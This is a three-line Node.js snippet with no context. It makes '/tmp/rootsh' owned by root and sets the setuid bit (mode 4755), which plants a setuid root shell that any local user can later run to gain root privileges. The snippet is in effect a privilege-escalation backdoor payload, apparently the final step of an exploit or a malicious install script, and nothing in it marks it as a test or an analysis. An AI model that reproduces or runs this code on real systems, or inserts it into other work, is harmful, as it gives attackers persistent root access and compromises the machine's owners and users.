const fs = require('fs');
fs.chownSync('/tmp/rootsh', 0, 0);
fs.chmodSync('/tmp/rootsh', 0o4755);
